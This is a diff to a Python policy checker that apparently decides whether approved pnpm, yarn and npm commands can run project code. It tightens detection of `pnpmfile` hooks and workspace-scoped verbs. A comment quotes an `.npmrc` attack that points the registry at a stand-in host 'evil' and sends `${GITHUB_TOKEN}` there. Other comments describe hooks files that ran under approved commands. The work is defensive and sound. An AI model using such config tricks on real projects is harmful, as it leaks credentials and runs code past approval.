@@ -17,7 +17,7 @@ from __future__ import annotations
 import json
 import os
 import re
-from collections.abc import Callable, Mapping
+from collections.abc import Callable, Mapping, Sequence
 from typing import Final, NamedTuple
 
 from policylang.engine import paths
@@ -133,8 +133,10 @@ def _network(pattern: re.Pattern[str]) -> Callable[[str, str, Inside], str | Non
 
 
 # pnpm's hooks file, loaded before it reads the lockfile
-_PNPMFILE: Final = re.compile(r"(?m)^[ \t]*(?:global-)?pnpmfile[ \t]*=[^\n]*")
-_PNPMFILE_BYTES: Final = re.compile(rb"(?m)^[ \t]*(?:global-)?pnpmfile[ \t]*=[^\n]*")
+# (any key that names it, in any case, quoted, or in ini's list form `pnpmfile[]=`: pnpm 10
+# takes a list of hooks files, review HB4); a line starting `;` or `#` is a comment
+_PNPMFILE: Final = re.compile(r"(?mi)^[ \t]*(?![;#])[^=\n]*pnpmfile[^=\n]*=[^\n]*")
+_PNPMFILE_BYTES: Final = re.compile(rb"(?mi)^[ \t]*(?![;#])[^=\n]*pnpmfile[^=\n]*=[^\n]*")
 # `.npmrc` keys that name no program, registry, host, file or shell (review GK6: a
 # committed `registry=http://evil/` with `//evil/:_authToken=${GITHUB_TOKEN}` sent the token
 # out under an approved `npm view`); any other key, a section, a quoted or escaped key or
@@ -778,6 +780,7 @@ def user_files(
         config = os.path.join(env.get("XDG_CONFIG_HOME") or os.path.join(home, ".config"), "pnpm")
         found.append((os.path.join(config, "rc"), (_NPMRC,)))
         found.append((os.path.join(config, "config.yaml"), (_PNPM_WORKSPACE,)))
+        found.extend(_named_pnpmfiles(home, found))
     if program == "yarn":
         for name in (".yarnrc", ".yarnrc.yml"):
             entries = tuple(entry for entry in LAUNCHERS["yarn"] if entry.name == name)
@@ -800,12 +803,45 @@ def relative_pnpmfile(program: str, home: str, env: Mapping[str, str]) -> str | 
     for path, entries in user_files(program, home, env):
         if _NPMRC not in entries or not os.path.isabs(path):
             continue
-        data = read_regular(path, _MAX_BYTES + 1)
-        for match in _PNPMFILE_BYTES.finditer(b"" if data is None else data[:_MAX_BYTES]):
-            value = match.group(0).partition(b"=")[2].strip().decode("utf-8", "replace")
+        for line, value in _pnpmfile_lines(path):
             if _relative(home, value):
-                return f"{path}: {match.group(0).decode('utf-8', 'replace').strip()[:80]}"
+                return f"{path}: {line[:80]}"
     return None
+
+
+def _pnpmfile_lines(path: str) -> list[tuple[str, str]]:
+    """The `pnpmfile` lines of the `.npmrc` at `path`, each with its value."""
+    data = read_regular(path, _MAX_BYTES + 1)
+    found: list[tuple[str, str]] = []
+    for match in _PNPMFILE_BYTES.finditer(b"" if data is None else data[:_MAX_BYTES]):
+        line = match.group(0).decode("utf-8", "replace").strip()
+        found.append((line, line.partition("=")[2].strip()))
+    return found
+
+
+_INI_COMMENT: Final = re.compile(r"[;#]")
+
+
+def _named_pnpmfiles(
+    home: str, found: Sequence[tuple[str, tuple[LaunchFile, ...]]]
+) -> list[tuple[str, tuple[LaunchFile, ...]]]:
+    """The hooks files the user-level `.npmrc` files among `found` name by an absolute
+    path (or a `~/` one), judged where they lie as the variables' are (GR2): a user
+    `.npmrc` whose `pnpmfile=` names the repository's `hooks.cjs` ran it under an
+    approved `pnpm why` (review HB5). The value is taken whole, without its quotes, and
+    without what follows a `;` or `#` (ini's comments); a relative one asks anyway
+    (`relative_pnpmfile`)."""
+    named: list[tuple[str, tuple[LaunchFile, ...]]] = []
+    for path, entries in found:
+        if _NPMRC not in entries or not os.path.isabs(path):
+            continue
+        for _line, value in _pnpmfile_lines(path):
+            cut = _INI_COMMENT.split(value, maxsplit=1)[0].strip()
+            for form in sorted({value, value.strip("\"'"), cut, cut.strip("\"'")}):
+                absolute = _home_path(home, form)
+                if absolute.startswith("/"):
+                    named.append((absolute, _PNPMFILE_NAMED))
+    return named
 
 
 def _relative(home: str, value: str) -> bool:
@@ -828,6 +864,16 @@ def covers_code(program: str, words: list[str | None], scripts: Callable[[], set
     verbs = _CODE_VERBS.get(program)
     if verbs is None:
         return False
+    scoped = _scoped_verb_words(program, words)
+    if scoped is not None:
+        # `yarn workspace a why x`, `pnpm recursive why`: the verb after the prefix says
+        # whether the project's code runs; now offered with it, an approval of `yarn
+        # workspace a why` is no approval of running its scripts (review HB2); yarn runs
+        # a workspace's script or bin for a verb of its own it does not know
+        if program == "pnpm":
+            return covers_code(program, scoped, scripts)
+        verb = next((w for w in scoped if w is None or not w.startswith("-")), "")
+        return verb is not None and verb not in _OWN_VERBS
     verb = next((w for w in words if w is None or not w.startswith("-")), "")
     if verb is None:
         return False
@@ -839,6 +885,22 @@ def covers_code(program: str, words: list[str | None], scripts: Callable[[], set
         return True
     # yarn and pnpm run a script of `package.json` for a verb they do not know
     return program in ("yarn", "pnpm") and verb not in _OWN_VERBS and verb in scripts()
+
+
+def _scoped_verb_words(program: str, words: list[str | None]) -> list[str | None] | None:
+    """The words after pnpm's `recursive` (`m`, `multi`) or yarn's `workspace NAME` and
+    `workspaces foreach` at the verb's place, where the verb is (review HB1, HB2)."""
+    at = next((i for i, w in enumerate(words) if w is None or not w.startswith("-")), None)
+    first = None if at is None else words[at]
+    if at is None or first is None:
+        return None
+    if program == "pnpm" and first in ("recursive", "m", "multi"):
+        return words[at + 1 :]
+    if program == "yarn" and first == "workspace" and len(words) > at + 1:
+        return words[at + 2 :]
+    if program == "yarn" and first == "workspaces" and words[at + 1 : at + 2] == ["foreach"]:
+        return words[at + 2 :]
+    return None
 
 
 def _npm_audit_fix(words: list[str | None]) -> bool:
